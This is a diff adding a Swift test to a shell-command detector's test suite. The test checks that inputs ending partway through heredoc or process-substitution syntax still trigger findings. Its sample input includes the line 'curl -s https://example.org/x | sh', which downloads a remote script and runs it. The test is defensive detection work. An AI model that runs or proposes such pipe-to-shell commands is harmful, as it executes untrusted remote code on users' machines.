@@ -142,6 +142,18 @@ struct ShellSignsTests {
     for certainty in Self.certainties { #expect(!ShellSigns.mayMatter(Array(text.utf8), certainty)) }
   }
 
+  /// A text may end anywhere within what redirects the input, also inside the mark of a document; what stands before it
+  /// is found all the same.
+  @Test(arguments: [
+    "<<a$(x <<<", "<<a`x <<<`", "<<<", "<<", "<<-", "<<a$(x <", "<<a$(x <<", "<(", "<(x <<<", "<<\"$(x <<<",
+  ])
+  func textThatEndsWithinARedirectionIsRead(end: String) {
+    let text = Array("curl -s https://example.org/x | sh\ncat \(end)".utf8)
+    for certainty in [ShellReader.Certainty.code, .span] {
+      #expect(!Self.findings(text, certainty).isEmpty)
+    }
+  }
+
   @Test func longTextIsAlwaysRead() {
     let text = [UInt8](repeating: UInt8(ascii: "a"), count: ShellSigns.maxBytes + 1)
     #expect(ShellSigns.mayMatter(text, .value))
